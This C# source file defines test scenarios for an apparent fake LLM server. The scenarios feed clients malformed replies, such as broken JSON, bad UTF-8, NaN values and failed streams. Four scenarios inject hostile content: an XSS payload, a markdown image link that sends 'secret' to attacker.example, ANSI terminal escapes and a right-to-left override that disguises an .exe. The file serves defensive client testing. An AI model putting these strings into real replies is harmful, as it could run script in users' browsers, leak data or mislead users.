using System.Text.RegularExpressions;
using Synapse.Fakes.Dialects;
using Synapse.Fakes.Streams;
using Synapse.Fakes.Wire;

namespace Synapse.Fakes.Scenarios;

/// <summary>Successes whose content is broken, incomplete or hostile.</summary>
internal static partial class ContentScenarios
{
    private const string Group = "Content";
    private static readonly string[] Marked = ["openai", "azure-legacy", "azure-v1", "llamacpp", "vllm", "ollama", "lmstudio"];
    private static readonly RequestKind[] Lists = [RequestKind.Embeddings, RequestKind.Rerank];

    public static IReadOnlyList<Scenario> All { get; } =
    [
        Broken("json-garbage", "Something that is not JSON.", _ => "{garbage: <not json>,,"),
        Broken("json-truncated", "JSON that stops in the middle.", text => text[..(text.Length / 2)]),
        Broken("json-deep-65", "JSON nested deeper than parsers allow.", text => WithMember(text, $"\"deep\":{new string('[', 65)}{new string(']', 65)}")),
        Broken("lone-surrogate", "Half of a character in an escape.", text => TextMember().IsMatch(text) ? TextMember().Replace(text, "${0}\\ud800", 1) : WithMember(text, "\"note\":\"\\ud800\"")),
        new("bad-utf8", Group, "Bytes that are not UTF-8.")
        {
            Parameters = new Dictionary<string, string> { ["n"] = "2" },
            ChangeEvents = (exchange, events) => AtText(exchange, events, item => [item with { Data = BadBytes(item.Data) }]),
            ChangeReply = (exchange, reply) => OnJson(reply, BadBytes),
        },
        Numbers("nan", "NaN where a number should be.", "NaN"),
        Numbers("1e400", "A number too large for any float.", "1e400"),
        Broken("dup-keys", "The same key twice, the first one null.", Doubled),
        new("wrong-dim", Group, "Embeddings of another length; delta=-1.")
        {
            Kinds = [RequestKind.Embeddings],
            Parameters = new Dictionary<string, string> { ["delta"] = "-1" },
            ChangeEmbeddings = (exchange, rows) => [.. rows.Select(row => row with { Values = Resized(row.Values, exchange.Call.Number("delta")) })],
        },
        new("short-data", Group, "One result too few.")
        {
            Kinds = Lists,
            ChangeEmbeddings = (_, rows) => [.. rows.SkipLast(1)],
            ChangeRanking = (_, hits) => hits.SkipLast(1),
        },
        new("extra-data", Group, "One result too many, with an index out of range.")
        {
            Kinds = Lists,
            ChangeEmbeddings = (_, rows) => [.. rows, rows[^1] with { Index = rows.Count }],
            ChangeRanking = (_, hits) => hits.Append((hits.Count, 0.001)),
        },
        Chat("null-choices", "A chunk, or the reply, whose choices are null.") with
        {
            Dialects = Marked,
            ChangeEvents = (exchange, events) => AtText(exchange, events, item => [item.WithText(Choices().Replace(item.Text, "\"choices\":null")), item]),
            ChangeReply = (exchange, reply) => OnJson(reply, text => Choices().Replace(text, "\"choices\":null")),
        },
        Chat("choices-empty-only", "No chunk has a choice.") with
        {
            Dialects = Marked,
            ChangeEvents = (_, events) => events.Select(item => item.WithText(Choices().Replace(item.Text, "\"choices\":[]"))),
            ChangeReply = (_, reply) => OnJson(reply, text => Choices().Replace(text, "\"choices\":[]")),
        },
        Chat("error-mid", "Fails after n pieces of text, as the dialect does it.") with { ChangeScript = Failing },
        Chat("error-mid-then-done", "Fails after n pieces of text, and still says that it is done.") with { Dialects = ["vllm"], ChangeScript = Failing },
        Chat("event-error", "Fails with an event of the name error after n pieces of text.") with
        {
            Dialects = ["lmstudio", "openai"],
            Parameters = new Dictionary<string, string> { ["n"] = "0" },
            ChangeScript = Failing,
            ChangeEvents = (_, events) => events.Select(item => item.Role == EventRole.Error ? item with { Name = "error" } : item),
        },
        Chat("empty-chunk-eof", "Fails with an empty chunk of no model, then the end.") with { Dialects = ["ollama"], ChangeScript = Failing },
        Chat("no-done", "Ends well, but the last mark is missing.") with { ChangeScript = (_, script) => [.. script.Where(step => step is not ChatStep.Done)] },
        Chat("done-without-finish", "Says that it is done, but not why it ended.") with { ChangeScript = (_, script) => [.. script.Where(step => step is not ChatStep.Finish)] },
        Chat("done-space", "A blank after the last mark.") with
        {
            Dialects = Marked,
            ChangeEvents = (_, events) => events.Select(item => item.Role == EventRole.Done ? item.WithText(item.Text + " ") : item),
        },
        Chat("two-finishes", "Two reasons to end.") with { ChangeScript = (_, script) => After(script, new ChatStep.Finish("length")) },
        Chat("text-after-finish", "Text after the end.") with { ChangeScript = (_, script) => After(script, new ChatStep.Text(" And more.")) },
        Chat("id-changes", "Every chunk has an id of its own.") with
        {
            Dialects = Marked,
            ChangeEvents = (_, events) => events.Select((item, i) => item.WithText(Id().Replace(item.Text, $"\"id\":\"chatcmpl-changed-{i}\""))),
        },
        Says("xss-in-content", "Markup that would act in a page.", "<script>alert(1)</script><img src=x onerror=alert(2)> <a href=\"javascript:alert(3)\">here</a>"),
        Says("markdown-image-exfil", "An image whose address carries data away.", "![loading](https://attacker.example/pixel.png?q=secret) [click](https://attacker.example/?q=secret)"),
        Says("ansi-escapes", "Escapes that would act in a terminal.", "\u001b[2J\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007"),
        Says("rtl-override", "Marks that turn the direction of text.", "invoice\u202Efdp.exe\u202C and \u2066hidden\u2069"),
    ];

    private static Scenario Chat(string id, string summary) => new(id, Group, summary)
    {
        Kinds = [RequestKind.Chat],
        Parameters = new Dictionary<string, string> { ["n"] = "2" },
    };

    private static Scenario Says(string id, string summary, string text) => Chat(id, summary) with
    {
        ChangeScript = (_, script) =>
        {
            var changed = script.ToList();
            changed.Insert(changed.FindIndex(step => step is ChatStep.Finish), new ChatStep.Text($" {text} "));
            return changed;
        },
    };

    private static Scenario Broken(string id, string summary, Func<string, string> change) => new(id, Group, summary)
    {
        Parameters = new Dictionary<string, string> { ["n"] = "2" },
        ChangeEvents = (exchange, events) => AtText(exchange, events, item => [item.WithText(change(item.Text))]),
        ChangeReply = (_, reply) => OnJson(reply, change),
    };

    private static Scenario Numbers(string id, string summary, string literal) => Broken(id, summary, text => Number().Replace(text, literal, 1)) with
    {
        // An embedding is poisoned in its numbers, not around them; in base64 the same number as a float.
        ChangeEmbeddings = (_, rows) => [.. rows.Select((row, i) => i > 0 ? row : row with { FirstLiteral = literal, Values = [literal == "NaN" ? float.NaN : float.PositiveInfinity, .. row.Values[1..]] })],
        ChangeReply = (exchange, reply) => exchange.Kind == RequestKind.Embeddings ? reply : OnJson(reply, text => Number().Replace(text, literal, 1)),
    };

    /// <summary>Changes the n-th event with text, or the last one when there are fewer.</summary>
    private static List<StreamEvent> AtText(Exchange exchange, IEnumerable<StreamEvent> events, Func<StreamEvent, IEnumerable<StreamEvent>> change)
    {
        var all = events.ToList();
        var texts = Enumerable.Range(0, all.Count).Where(i => all[i].Role == EventRole.Text).ToList();
        var place = texts.Count == 0 ? 0 : texts[Math.Min(exchange.Call.Number("n"), texts.Count) - 1];
        return [.. all.Take(place), .. change(all[place]), .. all.Skip(place + 1)];
    }

    private static HttpReply OnJson(HttpReply reply, Func<string, string> change)
        => OnJson(reply, bytes => System.Text.Encoding.UTF8.GetBytes(change(System.Text.Encoding.UTF8.GetString(bytes))));

    private static HttpReply OnJson(HttpReply reply, Func<byte[], byte[]> change)
        => reply.IsStream || reply.Status != 200
            ? reply
            : reply with { Body = [new(change([.. reply.Body.SelectMany(segment => segment.Bytes.ToArray())]))] };

    private static byte[] BadBytes(byte[] data)
    {
        // Inside of the last string, if there is one, so that the JSON around it stays whole.
        var place = Math.Max(data.AsSpan().LastIndexOf((byte)'"'), 0);
        return [.. data[..place], 0xFF, 0xC3, 0x28, 0xE2, 0x82, .. data[place..]];
    }

    private static string WithMember(string text, string member)
    {
        var brace = text.IndexOf('{', StringComparison.Ordinal);
        return brace < 0 ? $"{{{member}}}" : text.Insert(brace + 1, member + ",");
    }

    private static string Doubled(string text)
        => Keys().Match(text) is { Success: true } key ? text.Insert(key.Index, $"{key.Value}null,") : text;

    private static float[] Resized(float[] values, int delta)
        => [.. values.Take(Math.Max(values.Length + delta, 1)), .. Enumerable.Repeat(0f, Math.Max(delta, 0))];

    private static IReadOnlyList<ChatStep> Failing(Exchange exchange, IReadOnlyList<ChatStep> script) =>
    [
        .. script.TakeWhile(step => step is ChatStep.Start),
        .. script.OfType<ChatStep.Text>().Take(exchange.Call.Number("n")),
        new ChatStep.Failure("The model failed in the middle of the answer."),
    ];

    private static IReadOnlyList<ChatStep> After(IReadOnlyList<ChatStep> script, ChatStep added)
        => [.. script.SelectMany(step => step is ChatStep.Finish ? new[] { step, added } : [step])];

    [GeneratedRegex(@"""choices"":\[(?:[^\[\]""]|""(?:[^""\\]|\\.)*""|\[(?:[^\[\]""]|""(?:[^""\\]|\\.)*"")*\])*\]")]
    private static partial Regex Choices();

    [GeneratedRegex(@"""id"":""[^""]*""")]
    private static partial Regex Id();

    [GeneratedRegex(@"(?<=:)-?\d+(?:\.\d+)?")]
    private static partial Regex Number();

    [GeneratedRegex(@"""(?:content|text)"":""")]
    private static partial Regex TextMember();

    [GeneratedRegex(@"""(?:choices|data|results|embeddings|message|delta|index)"":")]
    private static partial Regex Keys();
}
